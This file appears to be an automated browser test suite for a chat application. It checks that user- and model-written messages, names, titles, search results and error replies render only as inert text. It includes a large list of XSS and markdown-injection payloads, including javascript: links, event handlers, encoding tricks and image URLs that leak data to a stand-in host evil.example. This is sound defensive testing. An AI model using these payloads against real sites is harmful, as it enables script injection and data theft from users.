// Threat T14: whatever somebody or the model writes is text. No script runs, no foreign address is asked, also while it streams in pieces.
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { startSystem } from '../integration/harness.mjs';
import { startBrowser, stopAll } from './browser.mjs';

let system, browser;
before(async () => {
	system = await startSystem();
	browser = await startBrowser();
});
after(() => stopAll(browser, system));

const run = 'window.pwned=1', out = 'https://evil.example/x';
const tags = [
	`<script>${run}</script>`, `<img src=x onerror=${run}>`, `<img src="${out}.png">`, `<svg onload=${run}>`, `<svg><script>${run}</script></svg>`, `<iframe src="javascript:${run}"></iframe>`, `<iframe src="${out}"></iframe>`,
	`<iframe srcdoc="<script>parent.${run}</script>"></iframe>`, `<body onload=${run}>`, `<video><source onerror=${run}></video>`, `<audio src=x onerror=${run}>`, `<input autofocus onfocus=${run}>`, `<details open ontoggle=${run}>`,
	`<object data="javascript:${run}">`, `<embed src="javascript:${run}">`, `<a href="javascript:${run}">x</a>`, `<form action="javascript:${run}"><button>x</button></form>`, `<math><maction actiontype=statusline xlink:href="javascript:${run}">x`,
	`<base href="${out}/">`, `<link rel=stylesheet href="${out}.css">`, `<meta http-equiv=refresh content="0;url=${out}">`, `<style>@import "${out}";*{background:url(${out})}</style>`, `<div style="background:url(${out})">x</div>`, `<marquee onstart=${run}>x</marquee>`,
	`<template><script>${run}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${run}>">`, `<xmp><img src=x onerror=${run}></xmp>`, `<scr<script>ipt>${run}</script>`, `<IMG """><SCRIPT>${run}</SCRIPT>">`, `<img src=x:x onerror&#61;${run}>`,
	`<<script>${run}//<</script>`, `<script\x0d>${run}</script>`, `<img/src=x/onerror=${run}>`, `<!--><img src=x onerror=${run}>-->`, `<![CDATA[<script>${run}</script>]]>`, `<?xml version="1.0"?><script>${run}</script>`, `&lt;script&gt;${run}&lt;/script&gt;`, `<textarea autofocus onfocus=${run}>`,
];
const marks = [
	`[x](javascript:${run})`, `[x](JaVaScRiPt:${run})`, `[x](java\tscript:${run})`, `[x](&#106;avascript:${run})`, `[x](javascript&colon;${run})`, `[x](vbscript:${run})`, `[x](data:text/html,<script>${run}</script>)`, `[x](data:text/html;base64,PHNjcmlwdD4=)`,
	`[x](//evil.example "title\\" onclick=${run}")`, `[x](<javascript:${run}>)`, `[x]: javascript:${run}\n\n[x]`, `<javascript:${run}>`, `![x](${out}.png)`, `![x](javascript:${run})`, `![x](data:image/svg+xml,<svg onload=${run}>)`, `![x][i]\n\n[i]: ${out}.png`,
	`[![x](${out}.png)](javascript:${run})`, `[x](https://a.example/"onmouseover="${run})`, `[x](blob:${out})`, `[x](file:///etc/passwd)`, `[x](view-source:javascript:${run})`, `[x]( javascript:${run})`, `[x](\u0001javascript:${run})`, `[x](\u202ejavascript:${run})`,
];
const structures = [
	`\`\`\`html\n<script>${run}</script>\n\`\`\``, `\`\`\`"><img src=x onerror=${run}>\ncode\n\`\`\``, `\`\`\`js\n</code></pre><img src=x onerror=${run}>\n\`\`\``, `\`\`\`\n\`\`\`\`\n<script>${run}</script>`, `~~~ <script>${run}</script>\nx\n~~~`, `\`<img src=x onerror=${run}>\``,
	`| a | b |\n|---|---|\n| <img src=x onerror=${run}> | [x](javascript:${run}) |`, `# <img src=x onerror=${run}>`, `> <script>${run}</script>`, `- <img src=x onerror=${run}>\n  - [x](javascript:${run})`, `1. ![x](${out})`, `<details>\n<summary>x</summary>\n<img src=x onerror=${run}>\n</details>`,
	`**<img src=x onerror=${run}>**`, `~~[x](javascript:${run})~~`, `- [ ] <script>${run}</script>`, `\\<script>${run}\\</script>`, `<p>\n\n<script>${run}</script>\n\n</p>`, `[x](${'('.repeat(200)}javascript:${run}`, `${'['.repeat(500)}x`, `${'> '.repeat(200)}<img src=x onerror=${run}>`,
	`$\\href{javascript:${run}}{x}$`, `[^1]\n\n[^1]: <img src=x onerror=${run}>`, `www.evil.example/<script>${run}</script>`, `ana@evil.example<script>${run}</script>`, `https://evil.example/<img src=x onerror=${run}>`, `{{constructor.constructor('${run}')()}}`, `\${${run}}`, `%3Cscript%3E${run}%3C/script%3E`,
	`+ADw-script+AD4-${run}+ADw-/script+AD4-`, `\u0000<script>${run}</script>`.slice(1), `<a\u200b href=javascript:${run}>`, `＜script＞${run}＜/script＞`, `&#x3C;img src=x onerror=${run}&#x3E;`, `<img src=x onerror=${run} //`, `"><script>${run}</script>`, `'--><img src=x onerror=${run}>`, `]]><script>${run}</script>`, `</title><script>${run}</script>`,
];
const tricks = [
	`<svg/onload=${run}>`, `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`, `<svg><foreignObject><iframe srcdoc="<script>parent.${run}</script>"></foreignObject></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x"/></svg>`,
	`<svg><animate onbegin=${run} attributeName=x dur=1s>`, `<svg><set attributeName=href to="javascript:${run}"/></svg>`, `<math href="javascript:${run}">x</math>`, `<math><mtext><table><mglyph><style><img src=x onerror=${run}></style></mglyph></table></mtext></math>`,
	`<math><annotation-xml encoding="text/html"><script>${run}</script></annotation-xml></math>`, `<a href="&#x6a;avascript:${run}">x</a>`, `<a href="java&NewLine;script:${run}">x</a>`, `<a href="javascript&colon;${run}">x</a>`,
	`[x](&#x6A;&#x61;vascript:${run})`, `[x](java&Tab;script:${run})`, `[x](java&#10;script:${run})`, `[x](jav\\x09ascript:${run})`, `[x](%6Aavascript:${run})`, `[x](https:javascript:${run})`, `[x](http://javascript:${run}@evil.example)`, `[x](https://a.example\\@evil.example)`,
	`[https://bank.example](https://evil.example)`, `[x](https://\u202eelpmaxe.live)`, `[x](https://еvil.example)`, `[x](mailto:a@b.example?body=<script>${run}</script>)`, `[x](tel:+1)`, `[x](intent://x#Intent;end)`, `[x](ws://evil.example)`, `[x](about:blank)`, `[x](\\\\evil.example\\x)`,
	`![x](https://evil.example/?q=secret)`, `![](https://evil.example/a.svg "t")`, `<https://evil.example/"onmouseover=${run}>`, `<data:text/html,<script>${run}</script>>`, `[x]( <java\nscript:${run}> )`, `[x][y]\n\n[y]: <javascript:${run}> "t"`, `[y]: data:text/html,x\n\n![y]`,
	`\u202e\u202e<script>${run}</script>\u2066\u2069`, `\u200b\u200d\ufeff<img src=x onerror=${run}>`, `a\u0008c\u001b[31md`, `${'\u0301'.repeat(300)}x`, `${'🏴'.repeat(100)}`, `${'*'.repeat(3000)}x`, `${'_a'.repeat(1500)}`, `${'`'.repeat(1001)}x`,
	`${'![['.repeat(300)}x`, `${'[a]('.repeat(300)}`, `${'- '.repeat(150)}x`, `${'1. '.repeat(100)}x`, `${'<div>'.repeat(400)}`, `|${'a|'.repeat(300)}\n|${'-|'.repeat(300)}\n|${`<img src=x onerror=${run}>|`.repeat(20)}`, `${'~~'.repeat(800)}x`, `${'&amp;'.repeat(500)}`, `${'&#x1F600;'.repeat(200)}`,
	`\`\`\`html onload=${run}\n<script>${run}</script>\n\`\`\``, `\`\`\`${'a'.repeat(500)}\nx\n\`\`\``, `\`\`\`__proto__\nx\n\`\`\``, `\`\`\`constructor\nx\n\`\`\``, `\`\`\`xml\n<svg onload=${run}><script>${run}</script>\n\`\`\``, `\`\`\`../../etc/passwd\nx\n\`\`\``,
	`| <script>${run}</script> | ![x](${out}) |\n|---|---|\n| <svg onload=${run}> | <b onclick=${run}>x</b> |`, `# [x](javascript:${run}) <img src=x onerror=${run}>`, `> ![x](${out})\n> <iframe src=${out}>`, `- [x] <input onfocus=${run} autofocus>`, `<h1 id=input>x</h1><form id=send><input name=value>`, `<a id=charla name=document>x</a>`,
	`__proto__`, `constructor`, `[__proto__]: javascript:${run}\n\n[__proto__]`, `[x][constructor]`, `{"__proto__":{"isAdmin":true}}`, `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${run}//'>`,
];
const payloads = [...tags, ...marks, ...structures, ...tricks];

/** Everything in the thread, and what of it could act. */
const suspects = (page) => page.$$eval('.msg *', (all) => all.flatMap((e) => {
	const bad = [...e.attributes].filter(({ name, value }) => /^on/i.test(name) || (/^(href|src|action|formaction|data|srcdoc|xlink:href|poster|background)$/i.test(name) && !/^(https?:|mailto:|#|\/(?!\/))/i.test(value)) || (name === 'style' && /url|expression/i.test(value)));
	const tag = /^(script|iframe|object|embed|link|meta|base|form|video|audio|template|style|math)$/i.test(e.tagName) || (e.tagName === 'IMG' && /^(https?:)?\/\//.test(e.getAttribute('src') ?? ''));
	return tag || bad.length > 0 ? [e.outerHTML.slice(0, 200)] : [];
}));

test(`${payloads.length} hostile texts, by a person and by the model, whole and in pieces`, { timeout: 180_000 }, async () => {
	assert.ok(payloads.length >= 170, `${payloads.length}`);
	const foreign = [];
	const chat = await browser.open(system.url, { before: (page) => page.on('request', (r) => { if (new URL(r.url()).origin !== new URL(system.url).origin && !r.url().startsWith('data:')) foreign.push(r.url()); }) });
	chat.page.on('dialog', (d) => { foreign.push(`dialog ${d.message()}`); void d.dismiss(); });
	// Many texts a message, each a paragraph of its own; the stand-in says them again in pieces of three bytes.
	const size = 20;
	for (let i = 0; i * size < payloads.length; i++) {
		await chat.send(`[[echo,chunk=${i % 2 ? 3 : 17}]]\n\n${payloads.slice(i * size, (i + 1) * size).join('\n\n')}`);
		await chat.ended(i + 1);
		assert.match((await chat.lastStored()).content, /pwned|evil/, 'the model says it');
		assert.deepEqual(await suspects(chat.page), []);
	}
	assert.equal(await chat.page.evaluate(() => window.pwned), undefined);
	// Links that are left lead where they say, and give nothing along.
	for (const { href, rel } of await chat.page.$$eval('.msg a[href^=http]', (all) => all.map(({ href, rel }) => ({ href, rel }))))
		assert.match(rel, /noopener/, href);
	await chat.reload();
	await chat.ended(Math.ceil(payloads.length / size));
	assert.deepEqual(await suspects(chat.page), []);
	assert.equal(await chat.page.evaluate(() => window.pwned), undefined);
	assert.deepEqual(foreign, []);
	// The guard sees what it is there for.
	await chat.page.evaluate(() => document.querySelector('.msg').append(Object.assign(document.createElement('a'), { href: 'javascript:1' }), document.createElement('form')));
	assert.equal((await suspects(chat.page)).length, 2);
	const title = await chat.page.title();
	assert.equal(await chat.page.$$eval('title', (t) => t.length), 1, title);
});

test('names of people, titles, search and errors are text as well', { timeout: 120_000 }, async () => {
	const foreign = [];
	const chat = await browser.open(system.url, { before: (page) => page.on('request', (r) => { if (new URL(r.url()).origin !== new URL(system.url).origin && !r.url().startsWith('data:')) foreign.push(r.url()); }) });
	const { page } = chat;
	chat.expect(/status of 500/);
	const suspicious = () => page.$$eval('body *', (all) => all.filter((e) => (/^(script|iframe|object|embed|img|form|video|audio|style|math)$/i.test(e.tagName) && e.id !== 'form') || [...e.attributes].some((a) => /^on/i.test(a.name) || (/href|src|action/i.test(a.name) && /^\s*javascript:/i.test(a.value)))).map((e) => e.outerHTML.slice(0, 120)));
	const names = [`<img src=x onerror=${run}>`, `"><script>${run}</script>`, `javascript:${run}`, `\u202e<svg onload=${run}>`];
	for (const [i, name] of names.entries()) {
		// everything that a person or the model can name: himself, a chat, what is searched, what is asked
		await chat.api('POST', 'session', { name: name.slice(0, 40) });
		const { chatId } = await chat.api('POST', 'chats', { title: name });
		await page.goto(`${system.url}/#c=${chatId}`);
		await page.waitForSelector('html[data-ready]');
		await chat.send(`[[echo]] aguja ${name}`);
		await chat.ended();
		await page.waitForFunction((wanted) => document.querySelector('#title').textContent === wanted, name);
		assert.equal(await page.locator('title').count(), 1);
		await page.fill('#search', 'aguja');
		await page.waitForFunction((n) => document.querySelectorAll('.found').length >= n, i + 1);
		await page.fill('#search', '');
		await page.click('#settings');
		await page.waitForFunction((wanted) => document.querySelector('dialog input')?.value === wanted, name.slice(0, 40));
		await page.keyboard.press('Escape');
		await page.click('#people');
		await page.waitForFunction((wanted) => [...document.querySelectorAll('dialog bdi')].some((b) => b.textContent === wanted), name.slice(0, 40));
		assert.deepEqual(await suspicious(), []);
		await page.keyboard.press('Escape');
	}
	// what a server, or somebody in its place, says is text, too
	await page.route('**/api/search*', (route) => route.fulfill({ contentType: 'application/json', body: JSON.stringify({ results: [{ chatId: `"><img src=x onerror=${run}>`, title: names[0], snippet: names[1], highlights: [[2, 8], [0, 999]] }] }) }));
	await page.fill('#search', 'aguja');
	await page.locator('.found').waitFor();
	assert.deepEqual(await suspicious(), []);
	await page.route('**/api/send-message', (route) => route.fulfill({ status: 500, contentType: 'application/problem+json', body: JSON.stringify({ code: names[0], detail: names[1] }) }));
	await chat.send('fallo');
	await page.waitForSelector('.sendnote.bad');
	assert.deepEqual(await suspicious(), []);
	assert.equal(await page.evaluate(() => window.pwned), undefined);
	assert.deepEqual(foreign, []);
});
